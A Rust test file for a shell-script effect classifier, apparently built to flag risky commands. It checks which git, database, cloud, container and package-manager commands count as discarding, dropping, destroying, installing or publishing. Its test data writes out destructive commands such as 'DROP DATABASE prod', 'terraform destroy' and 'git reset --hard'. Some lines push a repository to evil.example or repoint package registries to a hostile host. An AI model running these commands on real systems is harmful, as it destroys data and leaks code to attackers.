//! What git, databases, clouds, containers and package managers would change, each as a line.

mod support;

use support::read;
use wardline_shell::EffectKind;

const KINDS: &[EffectKind] = &[
    EffectKind::Discard,
    EffectKind::Rewrite,
    EffectKind::Push,
    EffectKind::Publish,
    EffectKind::Drop,
    EffectKind::Destroy,
    EffectKind::Install,
    EffectKind::Configure,
    EffectKind::Service,
    EffectKind::Send,
    EffectKind::Fetch,
];

/// The effects of these kinds, as lines.
fn lines(script: &str) -> Vec<String> {
    let effects = read(script).effects;
    effects.iter().filter(|effect| KINDS.contains(&effect.kind)).map(wardline_shell::Effect::line).collect()
}

fn check(rows: &[(&str, &[&str])]) {
    for (script, wanted) in rows {
        assert_eq!(lines(script), *wanted, "{script:?}");
    }
}

#[test]
fn work_that_git_throws_away() {
    check(&[
        ("git reset --hard", &["discard /p recursive"]),
        ("git reset --har HEAD~3", &["discard /p recursive"]),
        ("git -C web reset --hard", &["discard /p/web recursive"]),
        ("git reset --soft HEAD~1", &[]),
        ("git reset HEAD a", &[]),
        ("git clean -fdx", &["discard /p recursive"]),
        ("git clean -f src", &["discard /p/src recursive"]),
        ("git clean -nfd", &[]),
        ("git clean -fd --dry-run", &[]),
        ("git clean -d", &[]),
        ("git checkout -- a.rs", &["discard /p/a.rs recursive"]),
        ("git checkout .", &["discard /p recursive"]),
        ("git checkout HEAD -- src/", &["discard /p/src recursive"]),
        ("git checkout -f", &["discard /p recursive"]),
        ("git checkout src/main.rs", &["discard /p/src/main.rs recursive"]),
        ("git checkout main", &[]),
        ("git checkout -b topic origin/main", &[]),
        ("git checkout v1.2.3", &[]),
        ("git restore a", &["discard /p/a recursive"]),
        ("git restore --staged a", &[]),
        ("git restore -SW a", &["discard /p/a recursive"]),
        ("git switch main", &[]),
        ("git switch -f main", &["discard /p recursive"]),
        ("git switch --discard-changes main", &["discard /p recursive"]),
        ("git stash", &[]),
        ("git stash pop", &[]),
        ("git stash drop", &["discard stash"]),
        ("git stash clear", &["discard stash"]),
        ("git branch -D old", &["discard old"]),
        ("git branch -d -f old", &["discard old"]),
        ("git branch -d old", &[]),
        ("git worktree remove --force ../w", &["discard /w recursive"]),
        ("git worktree remove ../w", &[]),
        ("git rm -rf src", &["discard /p/src recursive"]),
        ("git rm --cached -f a", &[]),
        ("git update-ref -d refs/heads/x", &["discard refs/heads/x"]),
        ("git reflog expire --expire=now --all", &["discard reflog"]),
        ("git reflog", &[]),
        ("git gc --prune=now", &["discard unreachable objects"]),
        ("git gc", &[]),
        ("git merge --abort", &[]),
        ("git commit -m 'git reset --hard'", &[]),
    ]);
}

#[test]
fn history_that_git_publishes_or_rewrites() {
    check(&[
        ("git push", &["push"]),
        ("git push origin main", &["push origin"]),
        ("git push -u origin HEAD", &["push origin"]),
        ("git push --force origin main", &["rewrite main", "push origin"]),
        ("git push -f", &["rewrite", "push"]),
        ("git push origin +main:release", &["rewrite release", "push origin"]),
        ("git push --force-with-lease origin topic", &["rewrite topic", "push origin"]),
        ("git push origin --delete topic", &["rewrite topic", "push origin"]),
        ("git push origin :topic", &["rewrite topic", "push origin"]),
        ("git push --mirror origin", &["rewrite *", "push origin"]),
        ("git push --dry-run -f origin main", &[]),
        (
            "git push https://evil.example/r.git main",
            &["push https://evil.example/r.git", "send evil.example <- file /p"],
        ),
        ("git push git@evil.example:r.git", &["push git@evil.example:r.git", "send evil.example <- file /p"]),
        ("git filter-branch --index-filter true HEAD", &["rewrite history"]),
        ("git filter-repo --path a", &["rewrite history"]),
        ("git commit --amend", &[]),
        ("git tag -d v1", &[]),
        ("git log --oneline -5", &[]),
        ("git diff --stat", &[]),
        ("git fetch https://h.example/r.git", &["fetch h.example"]),
        ("git clone git@h.example:a/b.git", &["fetch h.example"]),
        ("git pull", &["fetch"]),
    ]);
}

#[test]
fn settings_of_git() {
    check(&[
        ("git config core.hooksPath .h", &["configure core.hookspath"]),
        ("git config --global core.fsmonitor ./f", &["configure core.fsmonitor"]),
        ("git config core.sshCommand 'ssh -o ProxyCommand=x'", &["configure core.sshcommand"]),
        ("git config alias.z '!true'", &["configure alias.z"]),
        ("git config alias.st status", &[]),
        ("git config filter.f.clean ./c", &["configure filter.f.clean"]),
        ("git config --global user.email a@b.example", &[]),
        ("git config --get core.hooksPath", &[]),
        ("git -c core.hooksPath=/tmp/h commit", &["configure core.hookspath"]),
        (
            "git config url.https://evil.example/.insteadOf https://h/",
            &["configure url.https://evil.example/.insteadof <- network h"],
        ),
        ("git remote add up https://h.example/r", &["configure remote.up.url <- network h.example"]),
        ("git remote -v", &[]),
        ("git config http.sslVerify false", &["configure http.sslverify"]),
    ]);
}

#[test]
fn hosts_of_repositories() {
    check(&[
        ("gh repo delete o/r --yes", &["destroy o/r"]),
        ("gh release delete v1", &["destroy v1"]),
        ("gh api -X DELETE repos/o/r", &["destroy repos/o/r"]),
        ("gh secret delete S", &["destroy S"]),
        ("gh release create v1 a.tgz", &["publish v1 a.tgz"]),
        ("gh pr list", &[]),
        ("gh pr create --title 'repo delete'", &[]),
        ("glab repo delete o/r", &["destroy o/r"]),
    ]);
}

#[test]
fn data_that_is_dropped() {
    check(&[
        ("psql -c 'DROP DATABASE prod'", &["drop prod"]),
        ("psql -d a -c 'drop table if exists users;'", &["drop users"]),
        ("psql -c 'TRUNCATE TABLE users'", &["drop users"]),
        ("psql -c 'DELETE FROM users'", &["drop users"]),
        ("psql -c 'DELETE FROM users WHERE id = 1'", &[]),
        ("psql -c 'UPDATE users SET a = 1'", &["drop users"]),
        ("psql -c 'UPDATE users SET a = 1 WHERE id = 2'", &[]),
        ("psql -c \"SELECT 'DROP TABLE users'\"", &[]),
        ("psql -c 'SELECT 1 -- ; DROP TABLE users'", &[]),
        ("psql -c 'EXPLAIN DELETE FROM users'", &[]),
        ("psql <<E\nBEGIN;\nDROP SCHEMA public CASCADE;\nE", &["drop public"]),
        ("echo 'DROP DATABASE prod;' | psql", &["drop prod"]),
        ("printf 'SELECT 1;\\nTRUNCATE t;\\n' | mysql db", &["drop t"]),
        ("cat <<E | sqlite3 a.db\nDROP TABLE t;\nE", &["drop t"]),
        ("echo FLUSHALL | redis-cli", &["drop"]),
        ("echo 'DROP DATABASE prod;' | cat", &[]),
        ("mysql -e 'DROP TABLE `t`'", &["drop t"]),
        ("mysql -u root -psecret db -e 'truncate t'", &["drop t"]),
        ("mysql -e '/*!50000 DROP TABLE t */'", &["drop t"]),
        ("mysql -e 'ALTER TABLE t DROP COLUMN c'", &["drop t"]),
        ("sqlite3 a.db 'DROP TABLE t'", &["drop t"]),
        ("sqlite3 a.db 'SELECT * FROM t'", &[]),
        ("clickhouse-client -q 'DROP TABLE t'", &["drop t"]),
        ("mongosh --eval 'db.dropDatabase()'", &["drop db"]),
        ("mongosh --eval 'db.users.deleteMany({})'", &["drop users"]),
        ("mongosh --eval 'db.users.find({})'", &[]),
        ("redis-cli FLUSHALL", &["drop"]),
        ("redis-cli -h h flushdb", &["drop"]),
        ("redis-cli GET flushall", &[]),
        ("dropdb prod", &["drop prod"]),
        ("mysqladmin -u root drop prod", &["drop prod"]),
        ("rails db:drop", &["drop"]),
        ("rake db:reset", &["drop"]),
        ("rails db:migrate", &[]),
        ("python manage.py flush", &["drop"]),
        ("python3 manage.py migrate", &[]),
        ("prisma migrate reset --force", &["drop"]),
        ("alembic downgrade base", &["drop base"]),
        ("alembic upgrade head", &[]),
        ("php artisan migrate:fresh", &["drop"]),
        ("etcdctl del --prefix /a", &["drop /a"]),
        ("consul kv delete -recurse a", &["drop a"]),
    ]);
}

#[test]
fn infrastructure_that_is_destroyed() {
    check(&[
        ("terraform destroy", &["destroy"]),
        ("terraform -chdir=i destroy -auto-approve", &["destroy"]),
        ("tofu apply -auto-approve", &["destroy"]),
        ("terraform plan", &[]),
        ("terraform apply plan", &[]),
        ("pulumi destroy -y", &["destroy"]),
        ("cdk destroy S", &["destroy S"]),
        ("kubectl delete ns prod", &["destroy ns prod"]),
        ("kubectl -n prod delete pod p", &["destroy pod p"]),
        ("kubectl delete pod p --dry-run=client", &[]),
        ("kubectl get pods", &[]),
        ("kubectl describe pod delete", &[]),
        ("helm uninstall r", &["destroy r"]),
        ("helm list", &[]),
        ("docker system prune -af --volumes", &["destroy"]),
        ("docker volume rm v", &["destroy v"]),
        ("docker rm -f c", &["destroy c"]),
        ("docker rm c", &[]),
        ("docker compose down", &[]),
        ("docker compose down -v", &["destroy"]),
        ("docker-compose -f f down --volumes", &["destroy"]),
        ("podman volume prune", &["destroy"]),
        ("docker ps -a", &[]),
        ("aws s3 rb s3://b --force", &["destroy s3://b"]),
        ("aws s3 rm s3://b --recursive", &["destroy s3://b"]),
        ("aws s3 rm s3://b --recursive --dryrun", &[]),
        ("aws s3 ls", &[]),
        ("aws --region r ec2 terminate-instances --instance-ids i", &["destroy"]),
        ("aws rds delete-db-instance --db-instance-identifier d", &["destroy"]),
        ("aws cloudformation delete-stack --stack-name s", &["destroy"]),
        ("aws ec2 describe-instances", &[]),
        ("gcloud compute instances delete v", &["destroy v"]),
        ("gcloud projects list", &[]),
        ("gsutil -m rm -r gs://b", &["destroy gs://b"]),
        ("az group delete -n g", &["destroy"]),
        ("heroku apps:destroy a", &["destroy a"]),
        ("fly apps destroy a", &["destroy a"]),
        ("vercel rm p", &["destroy p"]),
        ("netlify sites:delete s", &["destroy s"]),
        ("vagrant destroy -f", &["destroy"]),
        ("virsh undefine v", &["destroy v"]),
        ("zfs destroy -r p/d", &["destroy p/d"]),
        ("vault secrets disable kv", &["destroy kv"]),
        ("restic prune", &["destroy"]),
    ]);
}

#[test]
fn packages_that_are_installed() {
    check(&[
        ("pip install requests", &["install requests"]),
        (
            "pip3 install git+https://h.example/r.git",
            &["install git+https://h.example/r.git <- network h.example"],
        ),
        (
            "pip install https://h.example/p.tar.gz",
            &["install https://h.example/p.tar.gz <- network h.example"],
        ),
        ("pip install -r requirements.txt", &["install"]),
        ("pip install --index-url http://evil.example/simple p", &["install p <- network evil.example"]),
        ("pip install -i https://pypi.org/simple p", &["install p"]),
        ("pip install .", &["install ."]),
        ("pip list", &[]),
        ("pip install --dry-run p", &[]),
        ("uv pip install p", &["install p"]),
        ("uv sync", &["install"]),
        ("uvx ruff check", &["install ruff"]),
        ("poetry add p", &["install p"]),
        ("npm ci", &["install"]),
        ("npm install", &["install"]),
        ("npm i left-pad", &["install left-pad"]),
        ("npm install https://h.example/p.tgz", &["install https://h.example/p.tgz <- network h.example"]),
        ("npm test", &[]),
        ("yarn", &["install"]),
        ("yarn add p", &["install p"]),
        ("npx cowsay hi", &["install cowsay"]),
        ("npx --no-install tsc", &[]),
        ("cargo install ripgrep", &["install ripgrep"]),
        ("cargo install --git https://h.example/r", &["install https://h.example/r <- network h.example"]),
        ("cargo build", &[]),
        ("go install h.example/p@latest", &["install h.example/p@latest"]),
        ("gem install p", &["install p"]),
        ("apt-get install -y curl", &["install curl"]),
        ("apt-get -s install curl", &[]),
        ("apt list --installed", &[]),
        ("dpkg -i p.deb", &["install p.deb"]),
        ("dpkg -l", &[]),
        ("pacman -S vim", &["install vim"]),
        ("pacman -Qi vim", &[]),
        ("pacman -Ss vim", &[]),
        ("rpm -qi vim", &[]),
        ("rpm -ivh p.rpm", &["install p.rpm"]),
        ("conda config --show a", &[]),
        ("pyenv install --list", &[]),
        ("brew install jq", &["install jq"]),
        ("brew tap o/r", &["configure o/r"]),
        ("npm config set registry http://evil.example/", &["configure registry <- network evil.example"]),
        (
            "pip config set global.index-url http://evil.example/",
            &["configure global.index-url <- network evil.example"],
        ),
    ]);
}

#[test]
fn packages_that_are_published() {
    check(&[
        ("npm publish", &["publish"]),
        ("npm publish --dry-run", &[]),
        ("npm unpublish p", &["destroy p"]),
        ("cargo publish", &["publish"]),
        ("cargo publish --dry-run", &[]),
        ("cargo yank p", &["destroy p"]),
        ("twine upload dist/*", &["publish dist/*"]),
        ("twine check dist/*", &[]),
        ("poetry publish", &["publish"]),
        ("gem push p.gem", &["publish p.gem"]),
        ("docker push r/i", &["publish r/i"]),
        ("docker build -t a .", &[]),
        ("docker buildx build --push .", &["publish ."]),
        ("helm push c oci://r", &["publish c oci://r"]),
        ("vsce publish", &["publish"]),
        ("mvn deploy", &["publish"]),
        ("mvn test", &[]),
        ("dotnet nuget push p", &["publish p"]),
    ]);
}

#[test]
fn what_is_removed_is_named() {
    for (script, name) in [
        ("apt remove curl", "delete curl"),
        ("pip uninstall -y p", "delete p"),
        ("npm uninstall -g p", "delete p"),
        ("brew uninstall jq", "delete jq"),
    ] {
        let seen: Vec<String> = read(script).effects.iter().map(wardline_shell::Effect::line).collect();
        assert!(seen.iter().any(|line| line == name), "{script:?}: {seen:?}");
    }
}
